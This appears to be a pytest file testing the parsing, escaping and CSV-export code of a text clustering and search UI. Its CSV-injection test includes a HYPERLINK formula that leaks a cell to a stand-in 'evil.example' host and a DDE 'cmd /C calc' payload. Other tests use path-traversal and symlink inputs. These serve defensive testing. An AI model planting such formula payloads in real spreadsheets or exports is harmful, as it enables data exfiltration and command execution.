"""The UI's pure parts: input parsing and checks (ui/inputs.py) and formatting (ui/render.py)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from app.errors import DataError, InvalidRequestError, NotFoundError
from app.services.collections import JobInfo
from app.services.indexing import left_empty_note
from app.services.search import SearchResponse, SearchResult
from ui import inputs, render


def test_clip_reports_sizes_not_text() -> None:
    assert inputs.clip("short", 10, "query") == ("short", None)
    text, notice = inputs.clip("x" * 12_345, 100, "query")
    assert text == "x" * 100
    # It does not promise that the rest fits: a 1,688-character instruction, inside the limit,
    # was refused by an embedder that reads 256 tokens.
    assert notice == ("The query had 12,345 characters; only the first 100 were used "
                      "(FACET_UI_MAX_QUERY_CHARS). The embedder's own limit is in tokens and may "
                      "be lower.")


def test_filters_lines_and_semicolons() -> None:
    assert inputs.parse_filter_text("intent=a; intent=b\nyear:=2020\n\n") == {
        "intent": ["a", "b"], "year": 2020}
    assert inputs.parse_filter_text("") == {}
    with pytest.raises(InvalidRequestError, match="has no '='"):
        inputs.parse_filter_text("intent")


@pytest.mark.parametrize(("name", "content", "want"), [
    ("a.txt", "one\n\n two \nthree", ["one", "two", "three"]),
    ("a.json", json.dumps(["one", "two"]), ["one", "two"]),
    ("data.json", json.dumps({"goal": "g", "texts": ["one", "two"]}), ["one", "two"]),
    ("a.jsonl", '{"text": "one"}\n"two"\n\n', ["one", "two"]),
    ("a.csv", "id,text\n1,one\n2,\"two, with comma\"\n", ["one", "two, with comma"]),
    ("b.csv", "only\none\ntwo\n", ["one", "two"]),
])
def test_text_lists_from_files(tmp_path: Path, name: str, content: str, want: list[str]) -> None:
    path = tmp_path / name
    path.write_text(content)
    assert inputs.read_text_list(path) == want


@pytest.mark.parametrize(("name", "content", "error"), [
    ("a.pdf", "x", "must be in a .txt, .json, .jsonl, .csv file"),
    ("a.json", "{not json", "not valid JSON"),
    ("a.json", json.dumps({"texts": "nope"}), "expected a JSON list"),
    ("a.jsonl", '{"title": "x"}', r"a\.jsonl:1: no text field \(text, contents, content, body\); it has 'title'"),
    # A null (or number) text is refused with its line, never clustered as "None".
    ("a.jsonl", '{"text": "x"}\n{"text": null}\n', r"a\.jsonl:2: 'text' is null, not a string"),
    ("a.json", json.dumps(["x", 3]), r"a\.json: text 2 of the list is the number 3, not a string"),
])
def test_bad_text_files(tmp_path: Path, name: str, content: str, error: str) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(DataError, match=error):
        inputs.read_text_list(path)
    # A Latin-1 file is read as `facet index` reads it (it was refused as "not UTF-8 text").
    latin = tmp_path / "latin.txt"
    latin.write_bytes("café\nthé".encode("latin-1"))
    assert inputs.read_text_list(latin) == ["café", "thé"]


def test_labels(tmp_path: Path) -> None:
    (tmp_path / "labels.json").write_text(json.dumps({"labels": [0, 3, 1]}))
    (tmp_path / "l.txt").write_text("sport\nworld\n")
    assert inputs.read_labels(tmp_path / "labels.json") == ["0", "3", "1"]
    assert inputs.read_labels(tmp_path / "l.txt") == ["sport", "world"]
    (tmp_path / "null.json").write_text(json.dumps(["a", None]))
    with pytest.raises(DataError, match=r"null\.json: label 2 of the list is null"):
        inputs.read_labels(tmp_path / "null.json")


def _handlers(tmp_path: Path):  # type: ignore[no-untyped-def]
    pytest.importorskip("gradio")
    from app.settings import FacetSettings
    from ui.handlers import UiHandlers

    def no_facet() -> None:
        raise AssertionError("the input is refused before the core is asked")

    return UiHandlers(no_facet, FacetSettings(data_dir=tmp_path), export_dir=tmp_path)  # type: ignore[arg-type]


@pytest.mark.parametrize(("limit", "k", "labels", "message"), [
    (0, 0, "a\nb\nc\nd\n", "4 labels for 3 texts"),   # more labels than texts
    (0, 0, "a\nb\n", "2 labels for 3 texts"),
    (0, 0, "a\n", "1 label for 3 texts"),  # "1 labels"
    # Taken whole and echoed back as a 301-digit number.
    (0, 1e300, None, "k must be a whole number of at most 1,000,000,000,000, got 1e+300"),
    (1e300, 0, None, "At most this many texts must be a whole number of at most"),
    # -1e13 was told "at most 1,000,000,000,000".
    (0, -1e13, None, "k must be a whole number of at least -1,000,000,000,000, got -1e+13"),
    (0, -1, None, "k must be 0 (choose it by silhouette) or at least 2, got -1"),
    (-5, 0, None, "At most this many texts must be 0 (all) or at least 2 (clustering needs 2), got -5"),
])
def test_cluster_tab_refuses_bad_counts(tmp_path: Path, limit: int, k: int, labels: str | None,
                                        message: str) -> None:
    import gradio as gr

    from ui.handlers import NO_EXPLAINER, SOURCE_TEXTS

    handlers = _handlers(tmp_path)
    labels_file = None
    if labels is not None:
        labels_file = tmp_path / "labels.txt"
        labels_file.write_text(labels)
    with pytest.raises(gr.Error) as info:
        handlers.cluster(SOURCE_TEXTS, None, "", limit, None, None, "one\ntwo\nthree", None,
                         str(labels_file) if labels_file else None, "topic", k, None, NO_EXPLAINER)
    assert message in info.value.message


def test_search_tab_refuses_k_0(tmp_path: Path) -> None:
    import gradio as gr

    with pytest.raises(gr.Error) as info:
        _handlers(tmp_path).search("my card", "", "c", None, 0, "", False, None, False, "dense")
    assert "k (the number of results) must be at least 1, got 0" in info.value.message


def test_search_summary_counts_what_is_shown() -> None:
    one = SearchResponse("q", None, "c", "minilm", None, [_result(1, "x", 0.9)], {})
    assert '<div class="facet-info">1 result from <b>c</b>' in render.search_summary(one, 5)
    chunks = [_result(1, "x", 0.9), _result(2, "y", 0.8), _result(3, "x", 0.7), _result(4, "z", 0.6),
              _result(5, "x", 0.5)]
    grouped = SearchResponse("q", None, "c", "minilm", None, chunks, {})
    assert "5 results from" in render.search_summary(grouped, 5)
    summary = render.search_summary(grouped, 5, group_by_document=True)
    assert "3 documents (5 matching chunks) from" in summary
    assert render.results_html(grouped, group_by_document=True).count("<tr><td") == 3


def test_a_record_without_a_title_is_named_by_its_file_not_its_server_path() -> None:
    from dataclasses import replace

    source = "/srv/facet/data/uploads/mix/msgs.jsonl"
    record = replace(_result(1, "x", 0.9), doc_id=f"{source}#L3", source=source)
    html = render.results_html(SearchResponse("q", None, "c", "minilm", None, [record], {}))
    assert ">msgs.jsonl#L3</span>" in html


def test_a_name_shared_by_some_members_says_so_in_the_table_legend_and_csv(tmp_path: Path) -> None:
    """The table said "payment (24 of 71)"; the map's legend and the CSV said "payment"."""
    import csv

    from app.services.clustering import Cluster, ClusterResponse

    clusters = [Cluster(0, 3, "payment", ["card", "pay"], ["a"], [0], (0.0, 0.0), name_count=2),
                Cluster(1, 1, "refund", ["refund"], ["c"], [2], (1.0, 1.0), name_count=1)]
    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer="inbedder", k=2, k_chosen=False, silhouette=None,
        texts=["a", "b", "c", "d"], labels=[0, 0, 1, 0], coordinates=[(0.0, 0.0)] * 4, sources=[],
        answers=["payment", "payment", "refund", "fee"], clusters=clusters, timings_ms={})
    assert [row[2] for row in render.cluster_rows(response)] == ["payment (2 of 3)", "refund"]
    legend = [t["name"] for t in render.cluster_figure(response).to_dict()["data"] if t.get("showlegend") is not False]
    assert legend[:2] == ["0: payment (2 of 3)", "1: refund (1)"]
    with render.write_cluster_csv(response, tmp_path).open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["cluster_name"], r["name_answers"], r["cluster_keywords"]) for r in rows][:3] == [
        ("payment", "2 of 3", "card, pay"), ("payment", "2 of 3", "card, pay"), ("refund", "1 of 1", "refund")]
    # Each text's own answer, which the page showed nowhere (a naming note tells the reader to read them).
    assert [r["answer"] for r in rows] == ["payment", "payment", "refund", "fee"]


def test_the_csv_says_how_many_texts_hold_a_name_of_keywords(tmp_path: Path) -> None:
    """The CSV said "12 of 12" for an explainer's name (``name_answers``) but nothing for a name
    of keywords, which the page shows as "top up / denied / app (26 of 27 texts)"."""
    import csv

    from app.services.clustering import Cluster, ClusterResponse

    clusters = [Cluster(0, 3, "top up / denied / app", ["top up", "denied", "app"], ["a"], [0], (0.0, 0.0),
                        name_texts=2),
                Cluster(1, 1, "refund", ["refund"], ["c"], [2], (1.0, 1.0), name_texts=1)]
    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=2, k_chosen=False, silhouette=None,
        texts=["a", "b", "c", "d"], labels=[0, 0, 1, 0], coordinates=[(0.0, 0.0)] * 4, sources=[],
        answers=[], clusters=clusters, timings_ms={})
    with render.write_cluster_csv(response, tmp_path).open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["name_answers"], r.get("name_texts")) for r in rows] == [
        ("", "2 of 3"), ("", "2 of 3"), ("", "1 of 1"), ("", "2 of 3")]


def test_the_csv_of_a_collections_chunks_names_their_documents(tmp_path: Path) -> None:
    """Clustering a collection (or a search) in the UI: the CSV had no doc_id or chunk_no, which
    the CLI's JSON and POST /cluster give, so its rows could not be mapped back to documents."""
    import csv

    from app.services.clustering import Cluster, ClusterResponse

    clusters = [Cluster(0, 2, "card", ["card"], ["a"], [0], (0.0, 0.0)),
                Cluster(1, 1, "refund", ["refund"], ["c"], [2], (1.0, 1.0))]
    sources = [{"doc_id": "r54", "chunk_no": 0, "title": None}, {"doc_id": "=r7", "chunk_no": 2, "title": None},
               {"doc_id": "r9", "chunk_no": 0, "title": None}]
    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=2, k_chosen=False, silhouette=None,
        texts=["a", "b", "c"], labels=[0, 0, 1], coordinates=[(0.0, 0.0)] * 3, sources=sources,
        answers=[], clusters=clusters, timings_ms={})
    with render.write_cluster_csv(response, tmp_path).open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["doc_id"], r["chunk_no"]) for r in rows] == [("r54", "0"), ("'=r7", "2"), ("r9", "0")]
    # Given texts (sources of {"index": i}): no such columns.
    given = ClusterResponse(**{**response.__dict__, "sources": [{"index": i} for i in range(3)]})
    with render.write_cluster_csv(given, tmp_path).open(encoding="utf-8-sig") as fh:
        assert "doc_id" not in next(csv.reader(fh))


def test_map_hover_text_shows_quotes_as_typed_and_escapes_markup() -> None:
    """Hovering a text with double quotes showed "&quot;" (plotly decodes few entities)."""
    from app.services.clustering import Cluster, ClusterResponse

    texts = ['she said "hi" <b>loud</b> & left', "plain"]
    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=1, k_chosen=False, silhouette=None,
        texts=texts, labels=[0, 0], coordinates=[(0.0, 0.0)] * 2, sources=[], answers=[],
        clusters=[Cluster(0, 2, "talk", ["talk"], ["plain"], [1], (0.0, 0.0))], timings_ms={})
    hovers = [h for t in render.cluster_figure(response).to_dict()["data"] for h in t.get("hovertext") or []]
    assert 'she said "hi" &lt;b&gt;loud&lt;/b&gt; &amp; left' in hovers, hovers


def test_map_title_legend_and_centres_show_quotes_as_typed() -> None:
    """The map's title (the instruction), legend and centre labels showed an instruction's or a
    name's quotes as "&quot;" and "&#x27;", as the hover text did."""
    from app.services.clustering import Cluster, ClusterResponse

    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=1, k_chosen=False, silhouette=None,
        texts=["a", "b"], labels=[0, 0], coordinates=[(0.0, 0.0)] * 2, sources=[], answers=[],
        clusters=[Cluster(0, 2, 'the "card" <i>one</i>', ["card"], ["a"], [0], (0.0, 0.0))],
        timings_ms={})
    figure = render.cluster_figure(response, title="2 texts, k=1: group by the user's \"goal\" & <b>").to_dict()
    assert figure["layout"]["title"]["text"] == "2 texts, k=1: group by the user's \"goal\" &amp; &lt;b&gt;"
    names = [t["name"] for t in figure["data"] if t.get("showlegend") is not False]
    assert names == ['0: the "card" &lt;i&gt;one&lt;/i&gt; (2)'], names
    centres = next(t for t in figure["data"] if t.get("name") == "centres")
    assert centres["hovertext"] == ['the "card" &lt;i&gt;one&lt;/i&gt;']


HEBREW = "\u05e9\u05dc\u05d5\u05dd \u05d4\u05db\u05e8\u05d8\u05d9\u05e1"  # "shalom hakartis"


def _rtl_response():
    from app.services.clustering import Cluster, ClusterResponse

    clusters = [Cluster(0, 2, HEBREW, [HEBREW], ["\u202eevil one", HEBREW + " 2", "plain"], [0],
                        (0.0, 0.0)),
                Cluster(1, 1, "refund", ["refund"], ["c"], [2], (1.0, 1.0))]
    return ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=2, k_chosen=False, silhouette=None,
        texts=["\u202eevil one", HEBREW, "c"], labels=[0, 0, 1], coordinates=[(0.0, 0.0)] * 3,
        sources=[], answers=[], clusters=clusters, timings_ms={})


def test_right_to_left_names_and_members_are_isolated_on_the_map_and_table() -> None:
    """The UI review of the sixth session of 2026-12-06: a Hebrew cluster name in the legend
    "1: <name> (2)" was drawn "1: (2) <name>", and a member's U+202E reversed the members after
    it in the table's cell. Such text is put between FSI and PDI (its own direction, the rest in
    order); Latin text is left as it was. (Drawn in chromium in test_render_fixes_browser.py.)"""
    assert render.isolated("payment (2 of 3)") == "payment (2 of 3)"
    assert render.isolated("café, naïve – 3 €") == "café, naïve – 3 €"
    assert render.isolated(HEBREW) == f"\u2068{HEBREW}\u2069"
    assert render.isolated("\u202eevil") == "\u2068\u202eevil\u202c\u2069"  # closed inside
    assert render.isolated("x \u0661\u0662") == "\u2068x \u0661\u0662\u2069"  # Arabic digits
    response = _rtl_response()
    figure = render.cluster_figure(response, title="t").to_dict()
    names = [t["name"] for t in figure["data"] if t.get("showlegend") is not False]
    assert names == [f"0: \u2068{HEBREW}\u2069 (2)", "1: refund (1)"]
    members = render.cluster_rows(response)[0][4]
    assert members == (f"\u2068\u202eevil one\u202c\u2069 | \u2068{HEBREW} 2\u2069 | plain")
    assert render.cluster_rows(response)[0][3] == f"\u2068{HEBREW}\u2069"  # keywords
    # The table's name where a share follows it (its verification: "(2 of 3)" went into the
    # name's run there as in the legend).
    from dataclasses import replace

    shared = replace(response, clusters=[replace(response.clusters[0], name_count=1)])
    assert render.cluster_rows(shared)[0][2] == f"\u2068{HEBREW}\u2069 (1 of 2)"
    assert render.cluster_rows(response)[1][2:4] == ["refund", "refund"]  # Latin: as it was


def test_the_csv_export_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
    """The UI review of the sixth session of 2026-12-06: without one, a spreadsheet opened on a
    double-click (Excel) read the export as cp1252 and garbled every non-Latin text. The
    project's own readers skip it (utf-8-sig)."""
    import csv

    path = render.write_cluster_csv(_rtl_response(), tmp_path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfindex,cluster,")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows][1] == HEBREW and "index" in rows[0]


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    """A clustered text `=HYPERLINK(...)` was written as it was: a spreadsheet opening the export
    ran it (OWASP "CSV injection"). Every text cell starting with = + - @, a tab or a carriage
    return gets a leading quote; numbers (a negative map position) stay numbers."""
    import csv

    from app.services.clustering import Cluster, ClusterResponse

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
    texts = [evil, "+1 555 0100", "-sum(A1:A9)", "@SUM(A1)", "\tcmd", "\r=1+1", "plain - text"]
    clusters = [Cluster(0, 4, "=cmd|' /C calc'!A0", ["+plus", "@at"], [evil], [0], (0.0, 0.0)),
                Cluster(1, 3, "fine", ["-minus"], ["x"], [4], (1.0, 1.0))]
    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=2, k_chosen=False, silhouette=None,
        texts=texts, labels=[0, 0, 0, 0, 1, 1, 1], coordinates=[(-0.5, -1.25)] * 7, sources=[],
        answers=None, clusters=clusters, timings_ms={})
    labels = ["=1+2", "a", "b", "c", "d", "e", "-f"]
    with render.write_cluster_csv(response, tmp_path, labels).open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["'" + t for t in texts[:6]] + ["plain - text"]
    assert rows[0]["cluster_name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["cluster_keywords"] == "'+plus, @at" and rows[4]["cluster_keywords"] == "'-minus"
    assert [r["label"] for r in rows] == ["'=1+2", "a", "b", "c", "d", "e", "'-f"]
    assert (rows[0]["x"], rows[0]["y"]) == ("-0.5", "-1.25")  # numbers are not texts
    assert all(not r[key].startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in rows for key in ("text", "cluster_name", "cluster_keywords", "label"))


def test_cluster_summary_says_why_there_are_fewer_clusters() -> None:
    from app.services.clustering import Cluster, ClusterResponse

    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=1, k_chosen=False, silhouette=None,
        texts=["same"] * 4, labels=[0] * 4, coordinates=[(0.0, 0.0)] * 4, sources=[], answers=None,
        clusters=[Cluster(0, 4, "same", ["same"], ["same"], [0], (0.0, 0.0))], timings_ms={},
        note="1 cluster instead of the 3 asked for: only 1 distinct text")
    summary = render.cluster_summary(response, wall_s=1.0, v_measure=None, label_count=None)
    assert "<b>4</b> texts, <b>k = 1</b>" in summary
    assert '<div class="facet-note">1 cluster instead of the 3 asked for: only 1 distinct text</div>' in summary
    assert "reused" not in summary
    # Embeddings kept from an earlier clustering: encode is near 0 and the summary says why.
    response.timings_ms, response.encode_reused = {"encode": 0.2, "kmeans": 30.0}, True
    summary = render.cluster_summary(response, wall_s=1.0, v_measure=None, label_count=None)
    assert "(encode 0.0 s, kmeans 0.0 s; embeddings reused)" in summary
    response.encode_reused, response.stored_vectors_used = False, True
    summary = render.cluster_summary(response, wall_s=1.0, v_measure=None, label_count=None)
    assert "(encode 0.0 s, kmeans 0.0 s; stored vectors read)" in summary


def test_folders_only_under_roots(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "a" / "b" / "c").mkdir(parents=True)
    (root / ".hidden").mkdir()
    (tmp_path / "other").mkdir()
    assert inputs.resolve_under_roots("a/b", [root]) == (root / "a" / "b").resolve()
    assert inputs.resolve_under_roots(str(root), [root]) == root.resolve()
    for bad in ("..", "../other", str(tmp_path / "other"), "a/../../other", "/"):
        with pytest.raises(InvalidRequestError, match="outside the folders"):
            inputs.resolve_under_roots(bad, [root])
    with pytest.raises(NotFoundError, match="not a folder"):
        inputs.resolve_under_roots("a/missing", [root])
    with pytest.raises(InvalidRequestError, match="FACET_UI_ALLOWED_ROOTS is empty"):
        inputs.resolve_under_roots("a", [])
    with pytest.raises(InvalidRequestError, match="Pick a folder first"):
        inputs.resolve_under_roots(" ", [root])
    with pytest.raises(InvalidRequestError, match="cannot hold a NUL"):  # was a ValueError
        inputs.resolve_under_roots("a\x00b", [root])
    # A link inside an allowed folder to a file outside them was indexed (read and shown).
    (tmp_path / "other" / "secret.txt").write_text("not for the UI")
    (root / "a" / "b" / "inside.txt").write_text("fine")
    (root / "a" / "b" / "linked.txt").symlink_to(tmp_path / "other" / "secret.txt")
    (root / "a" / "near.txt").symlink_to(root / "a" / "b" / "inside.txt")  # inside: fine
    with pytest.raises(InvalidRequestError, match=r"holds 1 link\(s\) to files outside .*linked.txt"):
        inputs.resolve_under_roots("a/b", [root])
    (root / "a" / "b" / "linked.txt").unlink()
    assert inputs.resolve_under_roots("a", [root]) == (root / "a").resolve()
    found = inputs.list_folders([root], depth=2)
    assert found == [str(root.resolve()), str((root / "a").resolve()),
                     str((root / "a" / "b").resolve())]
    # A link to a folder outside the roots was listed, and Index refused it; one to a folder
    # inside them is offered (Index takes it).
    (root / "away").symlink_to(tmp_path / "other", target_is_directory=True)
    (root / "again").symlink_to(root / "a" / "b", target_is_directory=True)
    with pytest.raises(InvalidRequestError, match="outside the folders this server may index"):
        inputs.resolve_under_roots("away", [root])
    assert inputs.resolve_under_roots("again", [root]) == (root / "a" / "b").resolve()
    assert inputs.list_folders([root], depth=2) == [
        str(root.resolve()), str((root / "a").resolve()), str(root.resolve() / "again"),
        str((root / "a" / "b").resolve())]


def test_highlight_escapes_and_marks() -> None:
    assert render.highlight("a <b>card</b> & pin", [(5, 9), (16, 19)]) == \
        "a &lt;b&gt;<mark>card</mark>&lt;/b&gt; &amp; <mark>pin</mark>"
    # Overlapping or empty spans keep the first; out-of-order spans are sorted.
    assert render.highlight("abcdef", [(3, 5), (0, 2), (1, 4), (5, 5)]) == \
        "<mark>ab</mark>c<mark>de</mark>f"


def _result(rank: int, doc: str, score: float) -> SearchResult:
    return SearchResult(rank=rank, score=score, doc_id=doc, title=None, source="s", chunk_no=0,
                        text=doc, snippet=doc, highlights=[], start=0, end=len(doc),
                        metadata={}, vector_score=score)


def test_compare_marks_moves() -> None:
    a = SearchResponse("q", "A", "c", "minilm", None,
                       [_result(1, "x", 0.9), _result(2, "y", 0.8), _result(3, "z", 0.7)], {})
    b = SearchResponse("q", "B", "c", "minilm", None,
                       [_result(1, "y", 0.9), _result(2, "x", 0.8), _result(3, "w", 0.7)], {})
    html = render.compare_html(a, b)
    assert "2 of the top 3 results are shared; 2 of them moved" in html
    assert '<span class="facet-up">\u21911</span>' in html      # y: 2 -> 1
    assert '<span class="facet-down">\u21931</span>' in html    # x: 1 -> 2
    assert '<span class="facet-new">new</span>' in html         # w
    assert '<span class="facet-down">out</span>' in html        # z dropped from B


def test_user_text_is_laid_out_in_its_own_direction() -> None:
    """An Arabic snippet sat left-aligned in a left-to-right cell, its cut marks mid-sentence:
    every element holding text from a document or a person has dir="auto"."""
    from dataclasses import replace

    snippet = "…تأخرت <b>بطاقتي</b> الجديدة…"
    arabic = replace(_result(1, "x", 0.9), title="رسالة العميل", snippet=snippet, highlights=[(10, 16)],
                     metadata={"النية": "وصول البطاقة", "lang": "ar"})
    html = render.results_html(SearchResponse("q", None, "c", "minilm", None, [arabic], {}))
    cell = '<td dir="auto">…تأخرت &lt;b&gt;<mark>بطاقتي</mark>&lt;/b&gt; الجديدة…</td>'
    assert cell in html and "<b>" not in html  # its own direction, and still escaped
    assert '<span dir="auto" title="s">رسالة العميل</span>' in html
    assert '<span dir="auto">النية</span>=<span dir="auto">وصول البطاقة</span>' in html
    assert '<td class="num">1</td>' in html  # numbers keep their cells
    grouped = render.results_html(SearchResponse("q", None, "c", "minilm", None,
                                                 [arabic, replace(arabic, rank=2, chunk_no=1)], {}),
                                  group_by_document=True)
    # One block per snippet; its label has its own direction, which dir="auto" skips.
    assert grouped.count('<div dir="auto"><small dir="ltr">chunk ') == 2
    assert '<small dir="ltr">chunk 1:</small> …تأخرت &lt;b&gt;<mark>' in grouped
    a = SearchResponse("q", "ابحث عن البطاقات", "c", "minilm", None, [arabic], {})
    b = SearchResponse("q", "B", "c", "minilm", None, [_result(1, "y", 0.8)], {})
    compared = render.compare_html(a, b)
    assert '<div dir="auto">رسالة العميل</div><div dir="auto">…تأخرت &lt;b&gt;<mark>' in compared
    assert '<th>A: <span dir="auto">ابحث عن البطاقات</span></th>' in compared
    assert '\u201c<span dir="auto">ابحث عن البطاقات</span>\u201d' in render.search_summary(a, 5)
    assert "text-align: start" in render.CSS  # a right-to-left cell aligns right


def test_job_errors_name_files_relative_to_the_source() -> None:
    source = "/srv/facet/data/uploads/notes"
    job = JobInfo(id=3, collection="notes", source=source, embedder="minilm", state="completed",
                  docs_seen=2, docs_indexed=1, docs_skipped=0, docs_failed=1, docs_deleted=0,
                  chunks_written=1, timings={}, started_at="", finished_at=None,
                  resumed_from=None, message=None,
                  errors=[{"document": f"{source}/sub/scan.txt", "kind": "error",
                           "message": f"{source}/sub/scan.txt looks binary (NUL or control "
                                      "bytes), not text"}])
    assert render.job_error_rows(job) == [
        ["sub/scan.txt", "error", "sub/scan.txt looks binary (NUL or control bytes), not text"]]
    # Named by its path under the source: its name alone showed `report.txt` twice for 2023/
    # and 2024/, and a record id `a/b` as `b`; a single file's source, by its name.
    job.errors = [{"document": f"{source}/{year}/report.txt", "kind": "error", "message": "x"}
                  for year in (2023, 2024)] + [
        {"document": "a/b", "kind": "error", "message": "x"},
        {"document": source, "kind": "error", "message": "x"}]
    assert [row[0] for row in render.job_error_rows(job)] == [
        "2023/report.txt", "2024/report.txt", "a/b", "notes"]
    job.errors = job.errors[:1]
    # A job comes with its first errors only: a last row says how many more, of how many.
    job.errors_total = 20_000
    assert render.job_error_rows(job)[1:] == [
        ["…", "", "19,999 more not listed: 20,000 errors and warnings in all, the first 1 above"]]


def _job(state: str, message: str | None, job_id: int = 7) -> JobInfo:
    return JobInfo(id=job_id, collection="notes", source="/srv/facet/data/uploads/notes",
                   embedder="minilm", state=state, docs_seen=40, docs_indexed=40, docs_skipped=0,
                   docs_failed=0, docs_deleted=0, chunks_written=40, timings={},
                   started_at="2026-11-28T10:00:00", finished_at=None, resumed_from=None,
                   message=message)


def test_a_stopped_job_says_what_happened_and_what_to_do_on_the_page() -> None:
    """A job stopped by a server restart showed "interrupted" in the jobs table and nothing
    else; its message named a command line (`facet index ... --collection ...`)."""
    stopped = _job("interrupted", "stopped (the server stopping) with 40 documents indexed; run "
                   "`facet index /srv/facet/data/uploads/notes --collection notes --embedder "
                   "minilm` (or submit the job) again to resume: what was indexed is kept")
    said = render.job_message(stopped, "press Resume")
    assert said == "stopped (the server stopping) with 40 documents indexed; press Resume"
    assert render.job_message(stopped) == "stopped (the server stopping) with 40 documents indexed"
    # Taken up by a later job already: nothing to do.
    resumed = _job("interrupted", "stopped (the server stopping) with 40 documents indexed; "
                   "resumed by job 9")
    assert render.job_message(resumed, "press Resume") == resumed.message
    failed = _job("failed", "ConflictError: collection 'notes' is being written", 8)
    assert render.job_rows([failed, stopped], {7: said}) == [
        [8, "notes", "failed", 40, 40, 0, 0, 40, "minilm", "2026-11-28T10:00:00",
         "ConflictError: collection 'notes' is being written"],
        [7, "notes", "interrupted", 40, 40, 0, 0, 40, "minilm", "2026-11-28T10:00:00", said]]
    assert render.JOB_COLUMNS[-1] == "message"
    bar = render.job_html(stopped, 100, message=said, notices=["Not kept: scan.txt"])
    assert "Job 7 into <b>notes</b>: <b>interrupted</b>" in bar and "press Resume" in bar
    assert "facet index" not in bar and "Not kept: scan.txt" in bar


def test_unexpected_errors_show_a_generic_message_not_the_exception(caplog) -> None:
    gr = pytest.importorskip("gradio")

    from ui.handlers import ui_errors

    @ui_errors
    def broken() -> None:
        raise KeyError("/srv/facet/data/secret internal detail")

    with pytest.raises(gr.Error) as info:
        broken()
    assert info.value.message.startswith("Something went wrong on the server")
    assert "secret" not in info.value.message and "KeyError" not in info.value.message
    assert "KeyError" in caplog.text and "Traceback" in caplog.text  # the log has the details

    @ui_errors
    def gone() -> None:
        raise NotFoundError("unknown collection '<b>x</b>'")

    with pytest.raises(gr.Error) as info:
        gone()
    assert info.value.message == ("unknown collection '&lt;b&gt;x&lt;/b&gt;'. The collection "
                                  "lists on this page have been refreshed.")
    assert info.value.title == "Not found"


def test_no_results_says_what_to_check_as_the_cli_does() -> None:
    """The UI said only "Loosen the filters or check the collection" where the CLI named the
    `year:=2020` a field of numbers needs (the filter box takes the same syntax). The hint is
    the core's note (``filter_type_hint``), which every edge shows."""
    from app.services.search import filter_type_hint

    def empty(filters=None):  # the note the core gives a filtered search that found nothing
        return SearchResponse("q", None, "c", "minilm", None, [], {},
                              note=filter_type_hint(filters) if filters else None)

    html = render.results_html(empty({"year": "2020"}), filters={"year": "2020"})
    assert "a field of numbers (not a csv column) is matched with year:=2020" in html
    assert "check the filters." in render.results_html(empty({"topic": "x"}), filters={"topic": "x"})
    assert "nothing searchable" in render.results_html(empty())
    assert "a record&#x27;s id is matched with doc_id=3" in render.results_html(
        empty({"id": "3"}), filters={"id": "3"})


def test_compare_headers_tell_apart_instructions_alike_in_their_first_words() -> None:
    """Both headers read "A: Represent this banking customer message so that it can be matched
    against other …" for instructions that differ at their end (the page refuses two
    instructions equal in their first 2,000 characters, and showed them equal at 80)."""
    start = "Represent this banking customer message so that it can be matched against other messages "
    a = SearchResponse("q", start + "about the same intent", "c", "minilm", None, [_result(1, "x", 0.9)], {})
    b = SearchResponse("q", start + "about the same topic", "c", "minilm", None, [_result(1, "x", 0.9)], {})
    headers = re.findall(r"<th>[AB]: (.*?)</th>", render.compare_html(a, b))
    assert len(headers) == 2 and headers[0] != headers[1], headers
    assert "same intent" in headers[0] and "same topic" in headers[1]
    long = SearchResponse("q", "w" * 100 + " middle " + "z" * 100, "c", "minilm", None, [], {})
    header = re.findall(r"<th>A: (.*?)</th>", render.compare_html(long, b))[0]
    assert header.count("w") < 100 and header.endswith("z</span>") and "…" in header


def test_a_collection_left_empty_is_named_with_the_pages_delete() -> None:
    """The note on a collection a job made and left empty names `facet delete C` (DELETE
    /collections/C): a stopped job's message lost it whole (its backticks read as the resume
    command), and a finished one's showed a command line on the page."""
    note = left_empty_note("cbig")
    cancelled = _job("cancelled", f"cancelled before any document was indexed: nothing was "
                     f"written; {note}")
    said = render.job_message(cancelled, "press Resume")
    assert said == ("cancelled before any document was indexed: nothing was written; collection "
                    "'cbig' was made for this job and holds no indexed document: Delete "
                    "collection, on the Collections tab, removes it; press Resume")
    finished = _job("completed", f"nothing to index in /srv/x: the folder is empty; {note}")
    shown = render.job_message(finished)
    assert "facet delete" not in shown and "DELETE /collections" not in shown
    assert shown.endswith("holds no indexed document: Delete collection, on the Collections "
                          "tab, removes it")
    # The jobs table shows the same words.
    assert render.job_rows([finished])[0][-1] == shown


def test_the_jobs_table_counts_what_a_sync_removed() -> None:
    """The bar said "1 removed" of an upload that replaced a csv without one of its records;
    the jobs table had no place for it."""
    job = _job("completed", None)
    job.docs_deleted = 1
    cells = dict(zip(render.JOB_COLUMNS, render.job_rows([job])[0], strict=True))
    assert cells["removed"] == 1 and cells["failed"] == 0
    assert len(render.JOB_COLUMN_WIDTHS) == len(render.JOB_COLUMNS)


def test_each_cluster_has_its_own_marker_not_only_its_colour() -> None:
    """The clusters differed by colour alone (the keyboard and screen reader review of the
    first session of 2026-12-07): a reader who cannot tell the colours apart could not tell
    the clusters apart. Each now has its own marker too, none of them the centres' cross, and
